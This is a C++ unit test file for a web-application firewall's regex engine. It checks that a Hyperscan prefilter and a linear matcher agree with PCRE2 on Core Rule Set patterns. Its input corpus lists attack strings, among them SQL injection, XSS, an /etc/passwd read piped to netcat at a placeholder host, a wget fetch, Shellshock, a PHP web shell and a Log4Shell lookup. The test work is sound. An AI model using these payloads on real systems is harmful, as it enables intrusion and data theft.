// The prefilter's contract on the rules that Weir is for: every @rx of an installed CRS, against
// PCRE2, over strings cut from attacks and from the patterns themselves.
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <iostream>
#include <random>
#include <set>

#include <gtest/gtest.h>

#include "rules/linear_search.h"
#include "rules/match_hs.h"
#include "rules/match_re.h"
#include "rules/parser.h"

namespace weir::rules {
namespace {

namespace fs = std::filesystem;
using How = HsDatabase::Compiled::How;

std::vector<std::string> crs_patterns(std::string& folder) {
  const char* given = std::getenv("WEIR_CRS_RULES");
  folder = given != nullptr ? given : "/usr/share/modsecurity-crs/rules";
  std::vector<Source> sources;
  std::error_code error;
  for (const auto& entry : fs::directory_iterator(folder, error)) {
    if (entry.path().extension() == ".conf") sources.push_back(Source::file(entry.path()));
  }
  Diagnostics diagnostics;
  const syntax::Unit unit = syntax::parse(sources, diagnostics);
  std::set<std::string> distinct;
  for (const syntax::Statement& s : unit.statements) {
    const auto* rule = std::get_if<syntax::Rule>(&s);
    if (rule == nullptr || rule->op.name != "rx") continue;
    if (rule->op.argument.find("%{") == std::string::npos) distinct.insert(rule->op.argument);
  }
  return {distinct.begin(), distinct.end()};
}

std::vector<std::string> corpus(const std::vector<std::string>& patterns) {
  std::vector<std::string> values = {"",
                                     "\n",
                                     "hello world",
                                     "id=1' or '1'='1",
                                     "1 union all select 1,2,3 from users--",
                                     "<script>alert(document.cookie)</script>",
                                     "<img src=x onerror=alert(1)>",
                                     "../../../../etc/passwd",
                                     "; cat /etc/passwd | nc 10.0.0.1 99",
                                     "$(wget http://x/y.sh)",
                                     "() { :; }; /bin/bash -c id",
                                     "<?php system($_GET['x']); ?>",
                                     "${jndi:ldap://x/a}",
                                     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
                                     "application/x-www-form-urlencoded",
                                     "text/html; charset=utf-8",
                                     "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13",
                                     "192.0.2.1:8080",
                                     "rO0ABQ==",
                                     "java.lang.Runtime",
                                     "O:8:\"stdClass\":0:{}",
                                     "a=b\r\nSet-Cookie: x=y",
                                     "%u0041%41",
                                     "sleep(5)#",
                                     "admin'/*",
                                     "x\ny",
                                     "x\n"};
  // Pieces of the patterns hit their own literals; other pieces come out of chance.
  std::mt19937 random(5);
  const std::size_t fixed = values.size();
  for (const std::string& p : patterns) {
    std::string text;
    for (const char c : p) {
      if (std::string_view("\\()[]{}|?*+^$").find(c) == std::string_view::npos) text += c;
      if (c == '|' || c == '\\') text += ' ';
    }
    for (int i = 0; i < 4 && !text.empty(); ++i) {
      const std::size_t at = random() % text.size();
      values.push_back(text.substr(at, random() % 60 + 1));
    }
  }
  const std::size_t pieces = values.size();
  for (int i = 0; i < 400; ++i) {
    std::string v =
        values[random() % fixed] + values[random() % pieces] + values[random() % pieces];
    if (!v.empty() && i % 3 == 0) v[random() % v.size()] = static_cast<char>(random());
    if (i % 7 == 0) v += '\n';
    values.push_back(v);
  }
  return values;
}

TEST(CrsPatterns, HyperscanKeepsItsContract) {
  std::string folder;
  const std::vector<std::string> texts = crs_patterns(folder);
  if (texts.empty()) GTEST_SKIP() << "no rules in " << folder;
  std::vector<HsPattern> patterns;
  for (const std::string& t : texts)
    patterns.push_back({t});
  const auto start = std::chrono::steady_clock::now();
  const auto compiled = HsDatabase::compile(patterns, true);
  const std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
  ASSERT_NE(compiled.database, nullptr);
  std::size_t how[3] = {};
  for (const How h : compiled.how)
    ++how[static_cast<std::size_t>(h)];
  std::cout << folder << ": " << texts.size() << " patterns, " << how[0] << " exact, " << how[1]
            << " prefilter, " << how[2] << " left, " << compiled.database->bytes() << " bytes, "
            << took.count() << " s\n";
  EXPECT_GT(how[0] * 100, texts.size() * 90);

  HsScratch scratch;
  ASSERT_TRUE(compiled.database->prepare(scratch));
  ReScratch re_scratch;
  std::vector<std::unique_ptr<Regex>> regexes;
  for (const std::string& t : texts) {
    auto r = Regex::compile(t, {});
    ASSERT_TRUE(r) << t << r.error().message;
    regexes.push_back(std::move(*r));
  }
  std::size_t pairs = 0, matches = 0, limits = 0;
  for (const std::string& value : corpus(texts)) {
    std::vector<std::uint64_t> hits((texts.size() + 63) / 64);
    ASSERT_TRUE(compiled.database->scan(value, scratch, hits));
    for (std::size_t i = 0; i < texts.size(); ++i) {
      if (compiled.how[i] == How::Left) continue;
      const bool hit = (hits[i / 64] >> (i % 64) & 1) != 0;
      const ReResult r = regexes[i]->search(value, re_scratch, {});
      ++pairs;
      if (r == ReResult::LimitExceeded) {
        ++limits;
        continue;
      }
      const bool match = r == ReResult::Match;
      if (match) ++matches;
      ASSERT_TRUE(!match || hit) << texts[i] << " on " << value;
      if (compiled.how[i] == How::Exact) {
        ASSERT_EQ(hit, match) << texts[i] << " on " << value;
      }
    }
  }
  std::cout << pairs << " pairs, " << matches << " matches, " << limits << " limits\n";
  EXPECT_GT(matches, 1000U);
}

// Where the linear search says that it tells all of a match, it tells what PCRE2 does.
TEST(CrsPatterns, TheLinearSearchTellsTheMatch) {
  std::string folder;
  const std::vector<std::string> texts = crs_patterns(folder);
  if (texts.empty()) GTEST_SKIP() << "no rules in " << folder;
  const std::vector<std::string> values = corpus(texts);
  ReScratch scratch;
  std::size_t exact = 0, matches = 0;
  for (const std::string& text : texts) {
    const auto tree = RegexTree::parse(text, false, false);
    const auto linear = tree ? LinearSearch::compile(*tree) : nullptr;
    if (linear == nullptr || !linear->exact()) continue;
    ++exact;
    auto regex = Regex::compile(text, {});
    ASSERT_TRUE(regex) << text << regex.error().message;
    for (const std::string& value : values) {
      std::string_view groups[10];
      const std::string_view& match = groups[0];
      std::size_t count = 0;
      const ReResult r = (*regex)->search(value, scratch, {}, groups, 10, &count);
      if (r == ReResult::LimitExceeded) continue;
      const std::string_view told = linear->find(value);
      ASSERT_EQ(told.data() != nullptr, r == ReResult::Match) << text << " on " << value;
      if (r != ReResult::Match) continue;
      ++matches;
      ASSERT_EQ(count, 1U) << text;
      ASSERT_EQ(told.data(), match.data()) << text << " on " << value;
      ASSERT_EQ(told.size(), match.size()) << text << " on " << value;
    }
  }
  std::cout << exact << " of " << texts.size() << " patterns, " << matches << " matches\n";
  EXPECT_GT(exact * 100, texts.size() * 70);
  EXPECT_GT(matches, 1000U);
}

}  // namespace
}  // namespace weir::rules
